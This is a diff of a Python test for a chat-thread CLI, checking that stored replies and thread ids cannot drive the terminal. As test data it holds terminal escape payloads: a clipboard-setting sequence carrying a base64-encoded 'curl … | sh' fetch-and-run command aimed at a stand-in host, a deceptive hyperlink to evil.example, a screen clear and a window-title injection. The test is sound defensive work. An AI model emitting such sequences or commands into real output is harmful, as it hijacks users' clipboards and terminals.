@@ -561,7 +561,9 @@ def test_what_a_thread_holds_never_drives_the_terminal(tmp_path: Path) -> None:
     """`show` and `threads` printed stored text with terminal escape sequences intact:
     a reply (or a tool result steered by a prompt injection) holding OSC 52 set the
     clipboard, OSC 8 made a link whose target is not its text, a thread id set the window
-    title. Control characters are written out (``\\x1b``), piped and on a terminal."""
+    title. Control characters are written out (``\\x1b``), piped and on a terminal, before
+    rich lays the text out (written out after, they overflowed and cut the words after
+    them); `export` stays JSON."""
     import os
     import pty
 
@@ -570,18 +572,21 @@ def test_what_a_thread_holds_never_drives_the_terminal(tmp_path: Path) -> None:
     st = "\x1b\\"
     clip = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaHxzaAo=" + st
     link = "\x1b]8;;http://evil.example/" + st + "https://docs.python.org" + "\x1b]8;;" + st
+    reply = f"see {link} {clip}\x9b2J{chr(27) * 12}pay account 12345; NOT 99999, don\x92t"
     builder = StateGraph(MessagesState)
-    builder.add_node("bot", lambda s: {"messages": [AIMessage(f"see {link} {clip}\x9b2Jdone")]})
+    builder.add_node("bot", lambda s: {"messages": [AIMessage(reply)]})
     builder.add_edge(START, "bot")
     builder.add_edge("bot", END)
     graph = builder.compile(checkpointer=JsonlSaver(tmp_path))
     for tid in ("chat", "title\x1b]0;PWNED" + st):
         graph.invoke({"messages": [("user", "hi")]}, config(tid))
+    exported = runner.invoke(app, ["--dir", str(tmp_path), "export", "chat"])
+    assert json.loads(exported.output)[-1]["content"] == reply and "\x92" not in exported.output
     for command in (["threads"], ["show", "chat"]):
-        piped = runner.invoke(app, ["--dir", str(tmp_path), *command])
+        piped = runner.invoke(app, ["--dir", str(tmp_path), *command], env={"COLUMNS": "80"})
         assert piped.exit_code == 0, piped.output
         main, terminal = pty.openpty()  # as a user runs it: rich's terminal output
-        env = {**os.environ, "COLUMNS": "200", "PYTHONPATH": str(Path(__file__).parents[1])}
+        env = {**os.environ, "COLUMNS": "80", "PYTHONPATH": str(Path(__file__).parents[1])}
         done = subprocess.run(
             [sys.executable, "-m", "langgraph_ctx.cli", "--dir", str(tmp_path), *command],
             stdout=terminal, stderr=terminal, env=env, timeout=60,
@@ -600,5 +605,9 @@ def test_what_a_thread_holds_never_drives_the_terminal(tmp_path: Path) -> None:
         assert done.returncode == 0, shown
         for output in (piped.output, shown.decode("utf-8", "replace")):
             assert "\x1b]" not in output and "\x9b" not in output
-            assert "\\x1b]52;c;" in output or command == ["threads"]
-            assert "\\x1b]0;PWNED" in output or command != ["threads"]
+            if command == ["threads"]:
+                assert "\\x1b]0;PWNED" in output
+                assert re.search(r"PWNED\S*\s+2\s+3\s+[\d.]+ KB\s+\d", output)  # row whole
+            else:
+                assert "\\x1b]52;c;" in output
+                assert "12345;" in " ".join(output.split()) and "99999" in output
